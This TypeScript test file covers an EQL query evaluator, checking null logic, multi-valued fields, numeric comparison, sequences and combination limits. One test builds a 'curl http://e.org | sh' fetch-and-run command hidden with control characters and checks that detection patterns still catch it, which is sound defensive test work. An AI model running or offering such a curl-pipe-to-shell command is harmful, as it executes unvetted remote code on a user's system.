import { describe, expect, it, vi } from "vitest";
import { compileCondition, matches, type Surroundings } from "../../src/eql/evaluate.ts";
import { parseExpression, parseQuery } from "../../src/eql/parser.ts";
import { documentOf } from "./document.ts";

function holds(condition: string, document: unknown, surroundings: Surroundings = {}): boolean {
  const { expression, diagnostics } = parseExpression(condition);
  expect(diagnostics).toEqual([]);
  if (expression === null) throw new Error(condition);
  return matches(expression, documentOf(document), surroundings);
}

describe("a missing field", () => {
  it.each<[string, boolean]>([
    ['f == "a"', false],
    ['f != "a"', true],
    ['not f == "a"', true],
    ['not f : "a*"', true],
    ['f not in ("a")', true],
    ['not startsWith(f, "a")', true],
    ["not (f > -1)", true],
    ["f <= -1", false],
    ["length(f) != 1", true],
    ["f == null", true],
    ["f != null", false],
    ["length(f) == null", true],
    ["null == (f > -1)", true],
    ["f", false],
    ["f == true", false],
    ["f == false", false],
    ["f != true", true],
    ["not f", true],
    ['startsWith(f, "a") == false', true],
    ['startsWith(f, "a") != true', true],
    ['f : "*"', false],
    ["f == g", false],
    ["f != g", true],
    ["f + 1 == 2", false],
  ])("under %s: %s", (condition, expected) => {
    for (const document of [{}, { f: null }, { f: [] }, { f: [null] }])
      expect(holds(condition, document)).toBe(expected);
  });
});

describe("several values", () => {
  it.each<[string, boolean]>([
    ['f == "a"', true],
    ['f != "a"', false],
    ['f != "z"', true],
    ['not f : ("A*")', false],
    ["n > 5 and n < 3", true],
    ["not (n > 5)", false],
    ["n <= 1", true],
    ['concat(f, g) == "ad" and concat(f, g) == "bc"', true],
    ['concat(f, f) == "ab"', false],
    ["length(f) == null", false],
    ["f == g", false],
    ['f in ("z", "b")', true],
    ["f in (g, h)", true],
    ["b == false and b == true", true],
    ["b != true", false],
  ])("under %s: %s", (condition, expected) => {
    expect(holds(condition, { f: ["a", "b"], g: ["c", "d"], h: "b", n: [1, 9], b: [true, false] })).toBe(expected);
  });
});

describe("comparing a field with a field", () => {
  it("holds if any value of one is equal to any of the other", () => {
    expect(holds("f == g", { f: ["a", "b"], g: ["b", "c"] })).toBe(true);
    expect(holds("f == g", { f: "5", g: 5 })).toBe(true);
    expect(holds("f < g", { f: [7, 9], g: [8] })).toBe(true);
    expect(holds("f == g", { f: "a" })).toBe(false);
    expect(holds("f != g", { f: "a" })).toBe(true);
  });
});

describe("numbers and numeric strings", () => {
  it("compare as numbers", () => {
    expect(holds("user.id != 0", { user: { id: "0" } })).toBe(false);
    expect(holds("user.id != 0", { user: { id: "1000" } })).toBe(true);
    expect(holds("user.id >= 1000", { user: { id: "999" } })).toBe(false);
    expect(holds("user.id >= 1000", { user: { id: "S-1-5-18" } })).toBe(false);
    expect(holds("user.id in (0, 1)", { user: { id: "1" } })).toBe(true);
    expect(holds('pid in ("4")', { pid: 4 })).toBe(true);
    expect(holds('pid in~ ("4", "")', { pid: 4 })).toBe(true);
  });
});

describe("constant parts", () => {
  it.each<[string, boolean]>([
    ["not null", false],
    ["not (null < 1)", false],
    ["true or null", true],
    ["null", false],
    ["not (1 == 2)", true],
    ['f == "a" or not null', true],
    ['f == "b" or not null', false],
    ["1 / 0 == 1", false],
    ["not (1 / 0 == 1)", false],
    ['indexOf("a", "b") == f', false],
    ['(g == indexOf("a", "b")) == null', true],
    ["null == null", true],
    ["null != null", false],
    ["5 == null", false],
  ])("of %s are three-valued: %s", (condition, expected) => {
    expect(holds(condition, { f: "a" })).toBe(expected);
  });
});

describe("text that hides", () => {
  it.each(["\u0000", "\n", "\r", "\u2028", "\ud800", "\udfff"])("%j escapes no operator", (odd) => {
    const command = `x${odd}curl http://e${odd}.org | sh${odd}`;
    for (const condition of [
      'f : "*CURL*sh*"',
      'f like "*curl*| sh?"',
      'f regex ".*curl.*sh.*"',
      'f regex~ ".*CURL.*\\\\| sh."',
      'stringContains(f, "curl")',
      'stringContains~(f, "CURL")',
      'startsWith(f, "x")',
      "length(f) > 10",
      'f != "curl"',
      "f in~ (concat(f))",
    ]) {
      expect([condition, holds(condition, { f: command })]).toEqual([condition, true]);
    }
    expect(holds('f == "curl"', { f: `curl${odd}` })).toBe(false);
    expect(holds('f : "curl"', { f: `curl${odd}` })).toBe(false);
  });
});

describe("fields of earlier stages", () => {
  it("are read from the events that matched them", () => {
    const { query } = parseQuery("sequence [a where true] as one [b where startsWith~(f, one.g)]");
    const second = query?.base.kind === "sequence" ? query.base.stages[1] : undefined;
    if (second === undefined) throw new Error("no second stage");
    const test = compileCondition(second.query.condition);
    const event = documentOf({ f: "ABC", g: "ABC" });
    expect(test(event, { stages: [documentOf({ g: ["x", "ab"] })] })).toBe(true);
    expect(test(event, { stages: [documentOf({ g: "x" })] })).toBe(false);
    expect(test(event, { stages: [null] })).toBe(false);
  });
});

describe("descendant of", () => {
  it("asks whoever knows the ancestors", () => {
    const isDescendant = vi.fn(() => true);
    expect(holds("descendant of [process where a == 1] and b", { b: true }, { isDescendant })).toBe(true);
    expect(holds("not descendant of [process where a == 1]", {}, { isDescendant })).toBe(false);
    expect(holds("descendant of [process where a == 1] == false", {}, { isDescendant })).toBe(false);
    expect(isDescendant).toHaveBeenCalledTimes(3);
  });
});

describe("combinations", () => {
  it("are given up at their limit, not silently", () => {
    const many = Array.from({ length: 1100 }, (_, index) => `v${index}`);
    const onTooManyCombinations = vi.fn();
    expect(holds('concat(f, g) == "x"', { f: many, g: many }, { onTooManyCombinations })).toBe(false);
    expect(onTooManyCombinations).toHaveBeenCalledOnce();
    expect(
      holds(
        'concat(f, g) == "v999v999"',
        { f: many.slice(0, 1000), g: many.slice(0, 1000) },
        { onTooManyCombinations },
      ),
    ).toBe(true);
    expect(onTooManyCombinations).toHaveBeenCalledOnce();
  });
});
